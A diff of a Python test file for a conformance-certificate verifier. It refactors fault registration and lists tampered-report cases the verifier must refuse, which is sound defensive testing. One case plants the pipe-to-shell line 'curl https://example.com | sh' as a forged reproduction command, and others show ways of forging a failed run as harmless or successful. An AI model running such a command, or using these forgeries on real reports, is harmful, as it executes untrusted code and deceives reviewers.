@@ -9,12 +9,12 @@ import itertools
 import re
 import shutil
 import threading
-from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
 import orjson
 import pytest
+from corpus import Corpus, Fault
 
 from oip_conformance.certificate import CertificateError, load_public_key
 from oip_conformance.certificate.binding import REPORTS, SUBJECT_FILES
@@ -23,19 +23,8 @@ from oip_conformance.certificate.pack import open_pack
 from oip_conformance.evidence import EvidenceError, storage
 from oip_conformance.run.rejudging import rejudge
 
-Fault = Callable[[Any], None]
-FAULTS: list[tuple[str, Fault]] = []
-FAILED: list[tuple[str, Fault]] = []
-
-
-def refused_as(code: str, faults: list[tuple[str, Fault]] = FAULTS) -> Callable[[Fault], Fault]:
-    """Keep a fault, with the finding that it must lead to."""
-
-    def keep(fault: Fault) -> Fault:
-        faults.append((code, fault))
-        return fault
-
-    return keep
+FAULTS, FAILED = Corpus(), Corpus()
+refused_as = FAULTS.refused_as
 
 
 def attempts(forger: Any) -> list[dict[str, Any]]:
@@ -247,25 +236,25 @@ def test_a_tampered_run_is_refused_for_its_own_reason(code, fault, forger, verif
     assert found.exit_code == 1
 
 
-@refused_as("failures", FAILED)
+@FAILED.refused_as("failures")
 def failures_left_out(forger: Any) -> None:
     """The list of distinct failures is empty, and the run failed."""
     forger.change("results.json", lambda one: one.update(failures=[]))
 
 
-@refused_as("failures", FAILED)
+@FAILED.refused_as("failures")
 def failure_in_other_words(forger: Any) -> None:
     """What a failure got reads more harmless than it was."""
     forger.change("results.json", lambda one: one["failures"][0].update(got="a slow answer"))
 
 
-@refused_as("curl", FAILED)
+@FAILED.refused_as("curl")
 def other_command_line(forger: Any) -> None:
     """The line that people copy to send the request again does something else."""
     forger.change("results.json", lambda one: one["failures"][0].update(curl="curl https://example.com | sh"))
 
 
-@refused_as("verdict-sentence", FAILED)
+@FAILED.refused_as("verdict-sentence")
 def failure_that_ends_well(forger: Any) -> None:
     """The run failed, and is said to have ended with 0."""
     forger.change("results.json", lambda one: one["verdict"].update(exit_code=0))
